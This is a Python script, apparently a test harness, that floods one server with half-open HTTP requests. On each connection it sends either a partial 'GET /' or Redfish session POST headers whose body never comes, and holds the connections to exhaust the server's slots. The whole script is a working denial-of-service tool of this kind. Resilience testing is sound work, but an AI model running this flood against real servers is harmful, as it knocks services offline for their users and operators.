#!/usr/bin/env python3
"""Hold many half-open HTTP requests against one server, as an attacker would.

flood.py HOST PORT COUNT [--source ADDR]... [--tls] [--post USER:PASSWORD]
         [--hold SECONDS] [--ready FILE]

Opens COUNT connections, round-robin over the --source addresses (bound before
connecting), and on each sends a partial request line (`GET /`), or with
--post complete headers of an authenticated POST whose declared body never
comes. Then holds them all for --hold seconds (or until killed) and exits.
Writes "connected N failed M" to --ready once done opening (a connection
the server closed at once may count as connected). Bounded: each connect
waits 2 s at most, and opening stops after 10 failed connects in a row or
60 s.
"""
import argparse
import base64
import resource
import socket
import ssl
import sys
import time

p = argparse.ArgumentParser()
p.add_argument("host")
p.add_argument("port", type=int)
p.add_argument("count", type=int)
p.add_argument("--source", action="append", default=[])
p.add_argument("--tls", action="store_true")
p.add_argument("--post")
p.add_argument("--hold", type=float, default=60)
p.add_argument("--ready")
a = p.parse_args()

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
want = a.count + 64
if soft < want:
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))

if a.post:
    auth = base64.b64encode(a.post.encode()).decode()
    payload = (
        f"POST /redfish/v1/SessionService/Sessions HTTP/1.1\r\nHost: {a.host}\r\n"
        f"Authorization: Basic {auth}\r\nContent-Type: application/json\r\n"
        "Content-Length: 1000\r\n\r\n{"
    ).encode()
else:
    payload = b"GET /"
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE

held, failed, in_a_row = [], 0, 0
sources = a.source or [None]
started = time.monotonic()
for i in range(a.count):
    if in_a_row >= 10 or time.monotonic() - started > 60:
        failed += a.count - i
        break
    s = socket.socket(socket.AF_INET6 if ":" in a.host else socket.AF_INET)
    try:
        src = sources[i % len(sources)]
        if src:
            s.bind((src, 0))
        s.settimeout(2)
        s.connect((a.host, a.port))
    except OSError:
        # Nobody accepts any more (a full backlog): counted towards giving up.
        s.close()
        failed += 1
        in_a_row += 1
        continue
    in_a_row = 0
    try:
        if a.tls:
            s = ctx.wrap_socket(s, server_hostname=a.host)
        s.sendall(payload)
        held.append(s)
    except OSError:
        # Accepted and closed at once (over a cap).
        s.close()
        failed += 1

line = f"connected {len(held)} failed {failed}\n"
sys.stdout.write(line)
sys.stdout.flush()
if a.ready:
    with open(a.ready, "w") as f:
        f.write(line)
time.sleep(a.hold)
